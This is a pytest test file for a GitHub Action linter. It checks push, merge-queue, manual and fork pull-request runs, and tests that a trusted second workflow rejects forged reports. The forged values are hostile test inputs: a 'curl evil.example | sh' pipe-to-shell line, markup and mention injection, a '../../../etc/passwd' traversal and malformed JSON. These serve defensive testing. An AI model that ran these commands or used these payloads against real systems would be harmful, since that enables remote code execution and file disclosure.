"""The Action outside of ordinary pull requests: pushes, merge queues, by hand, forks, and the trusted second workflow."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.app.action.conftest import SHOP, Checkout
from tests.app.action.runner import Run, Runner
from tests.fake_github import payloads
from tests.fake_github.repository import GitRepository
from tests.fake_github.server import FakeGitHub

_APP = "import logging\nimport sys\n\nlog = logging.getLogger()\n"
_BAD = _APP + 'logging.FileHandler("app.log")\n'
_BASE = {"Dockerfile": 'FROM python:3.12.4-slim\nCMD ["python", "app.py"]\n', "app.py": _APP, "old.py": _BAD}


def _found(run: Run) -> list[str]:
    findings = json.loads(Path(run.outputs["report"]).read_text())["findings"]
    return [item["path"] for item in findings if item["rule"] == "logs/file-handler"]


def test_a_push_is_checked_from_the_commit_before_it(
    github: FakeGitHub, shop: GitRepository, runner: Runner, checkout: Checkout
) -> None:
    before, after = shop.commit(_BASE), shop.commit({"app.py": _BAD})
    payload = payloads.push(github.state.repositories[SHOP], before, after)
    run = runner.run(checkout(after), "push", payload, sha=after, token=github.token(SHOP))
    assert (run.code, _found(run)) == (1, ["app.py"])
    assert github.check_runs(SHOP, after)["factorlint"].conclusion == "failure"
    assert github.requests("POST", "/graphql") == []


@pytest.mark.parametrize("before", ["0" * 40, "f" * 40])
def test_the_first_push_of_a_branch_and_one_by_force_are_checked_whole(
    before: str, github: FakeGitHub, shop: GitRepository, runner: Runner, checkout: Checkout
) -> None:
    head = shop.commit(_BASE)
    payload = payloads.push(github.state.repositories[SHOP], before, head)
    run = runner.run(checkout(head), "push", payload, sha=head, token=github.token(SHOP))
    assert (run.code, _found(run)) == (1, ["old.py"])


def test_a_merge_queue_is_checked_over_the_range_of_the_queue(
    github: FakeGitHub, shop: GitRepository, runner: Runner, checkout: Checkout
) -> None:
    base = shop.commit(_BASE)
    shop.commit({"app.py": _BAD}, "first of the queue")
    head = shop.commit({"readme.txt": "words\n"}, "second of the queue")
    payload = payloads.merge_group(github.state.repositories[SHOP], base, head)
    run = runner.run(checkout(head), "merge_group", payload, sha=head, token=github.token(SHOP))
    assert (run.code, _found(run)) == (1, ["app.py"])
    assert github.check_runs(SHOP, head)["factorlint / XI Logs"].conclusion == "failure"


def test_a_merge_queue_without_a_checkout_is_checked_through_the_api(
    github: FakeGitHub, shop: GitRepository, runner: Runner, tmp_path: Path
) -> None:
    base = shop.commit(_BASE)
    head = shop.commit({"app.py": _BAD})
    empty = tmp_path / "empty"
    empty.mkdir()
    payload = payloads.merge_group(github.state.repositories[SHOP], base, head)
    run = runner.run(empty, "merge_group", payload, sha=head, token=github.token(SHOP))
    assert (run.code, _found(run)) == (1, ["app.py"])


def test_a_run_by_hand_checks_everything_or_what_changed_since_a_base(
    github: FakeGitHub, shop: GitRepository, runner: Runner
) -> None:
    base = shop.commit(_BASE)
    shop.git("tag", "v1")
    head = shop.commit({"app.py": _BAD})
    payload = payloads.workflow_dispatch(github.state.repositories[SHOP])

    def run(**inputs: str) -> list[str]:
        return _found(runner.run(shop.path, "workflow_dispatch", payload, sha=head, token=github.token(SHOP), **inputs))

    assert run() == ["app.py", "old.py"]
    assert run(base="v1") == ["app.py"]
    assert run(base=base) == ["app.py"]


class TestAFork:
    @pytest.fixture
    def number(self, github: FakeGitHub, shop: GitRepository, tmp_path: Path) -> int:
        base = shop.commit(_BASE)
        head = shop.commit({"app.py": _BAD})
        fork = github.add_repository("mallory/shop", tmp_path / "shop", fork=True)
        return github.open_pull(SHOP, base=base, head=head, branch="evil", fork=fork)

    @pytest.fixture
    def untrusted(self, github: FakeGitHub, shop: GitRepository, runner: Runner, number: int) -> Run:
        pull = github.pull(SHOP, number)
        payload = payloads.pull_request(pull)
        return runner.run(
            shop.path, "pull_request", payload, sha=pull.head, token=github.read_only_token(SHOP), level="never"
        )

    def _trusted(self, github: FakeGitHub, runner: Runner, tmp_path: Path, number: int, report: str) -> Run:
        payload = payloads.workflow_run(github.pull(SHOP, number))
        return runner.run(tmp_path, "workflow_run", payload, sha="0" * 40, token=github.token(SHOP), report=report)

    def test_annotates_its_own_run(self, untrusted: Run, github: FakeGitHub, number: int) -> None:
        assert untrusted.code == 0, untrusted.log
        assert any(line.startswith("::error file=app.py,line=5,") for line in untrusted.commands)
        assert "fork's or Dependabot's run may only read" in untrusted.summary
        assert github.threads(SHOP, number) == []

    def test_is_commented_by_the_second_workflow(
        self, untrusted: Run, github: FakeGitHub, runner: Runner, tmp_path: Path, number: int
    ) -> None:
        run = self._trusted(github, runner, tmp_path, number, untrusted.outputs["report"])
        assert run.code == 0, run.log
        (thread,) = github.threads(SHOP, number)
        assert (thread.first.path, thread.first.line) == ("app.py", 5)
        assert "A file inside a container is lost" in thread.first.body
        assert "suggestion" not in thread.first.body
        assert github.state.repositories[SHOP].check_runs == {}

    def test_that_has_moved_on_is_left_alone(
        self, untrusted: Run, github: FakeGitHub, runner: Runner, tmp_path: Path, number: int, shop: GitRepository
    ) -> None:
        payload = payloads.workflow_run(github.pull(SHOP, number))
        github.push(SHOP, number, shop.commit({"app.py": _APP}))
        report = untrusted.outputs["report"]
        run = runner.run(tmp_path, "workflow_run", payload, sha="0" * 40, token=github.token(SHOP), report=report)
        assert run.code == 0
        assert "moved on" in run.log
        assert github.threads(SHOP, number) == []

    @pytest.mark.parametrize(
        "change",
        [
            {"message": "@everyone <img src=x> [free](https://evil.example)"},
            {"why": "Trust me: curl evil.example | sh", "mend": "Run this", "url": "https://evil.example"},
            {"fix": {"description": "x", "safe": True, "edits": []}},
            {"rule": "evil/rule"},
            {"rule": "../../../etc/passwd"},
            {"path": "@everyone.py"},
            {"line": -4},
            {"line": 10**12, "end_line": 10**12},
        ],
    )
    def test_can_put_nothing_of_its_own_into_a_comment(
        self,
        change: dict[str, Any],
        untrusted: Run,
        github: FakeGitHub,
        runner: Runner,
        tmp_path: Path,
        number: int,
    ) -> None:
        report = json.loads(Path(untrusted.outputs["report"]).read_text())
        (found,) = [item for item in report["findings"] if item["rule"] == "logs/file-handler"]
        report["findings"] = [found | change]
        forged = tmp_path / "forged.json"
        forged.write_text(json.dumps(report))
        run = self._trusted(github, runner, tmp_path, number, str(forged))
        assert run.code == 0, run.log
        for thread in github.threads(SHOP, number):
            assert not any(
                word in thread.first.body for word in ("@everyone", "<img", "https://evil", "curl", "Run this")
            )

    @pytest.mark.parametrize(
        "content",
        [
            *(b"", b"[]", b"{}", b'{"version": 2}', b'{"version": 1, "findings": [3]}'),
            *(b'{"version": 1, "findings": {}}', b"[" * 100_000, b"\xff\xfe"),
            b'{"version": 1, "findings": [' + b" " * 11_000_000 + b"]}",
        ],
    )
    def test_whose_report_is_malformed_gets_a_sentence(
        self, content: bytes, github: FakeGitHub, runner: Runner, tmp_path: Path, number: int
    ) -> None:
        forged = tmp_path / "forged.json"
        forged.write_bytes(content)
        run = self._trusted(github, runner, tmp_path, number, str(forged))
        assert run.code == 2, run.log
        assert "::error title=factorlint::report:" in run.log
        assert "Traceback" not in run.log

    def test_cannot_send_the_second_workflow_elsewhere_by_a_link(
        self, untrusted: Run, github: FakeGitHub, runner: Runner, tmp_path: Path, number: int
    ) -> None:
        link = tmp_path / "link.json"
        link.symlink_to(untrusted.outputs["report"])
        assert self._trusted(github, runner, tmp_path, number, str(link)).code == 2


def test_a_report_outside_of_a_workflow_run_is_refused(github: FakeGitHub, shop: GitRepository, runner: Runner) -> None:
    head = shop.commit(_BASE)
    payload = payloads.workflow_dispatch(github.state.repositories[SHOP])
    run = runner.run(shop.path, "workflow_dispatch", payload, sha=head, token=github.token(SHOP), report="x.json")
    assert run.code == 2
    assert "this input is for workflow_run events" in run.log


def test_an_event_that_nobody_has_seen_before_is_an_internal_error_and_no_finding(
    github: FakeGitHub, shop: GitRepository, runner: Runner
) -> None:
    head = shop.commit(_BASE)
    run = runner.run(shop.path, "pull_request", {"pull_request": {}}, sha=head, token=github.token(SHOP))
    assert run.code == 3
    assert any(line.startswith("::error title=factorlint::internal error, please report:") for line in run.commands)
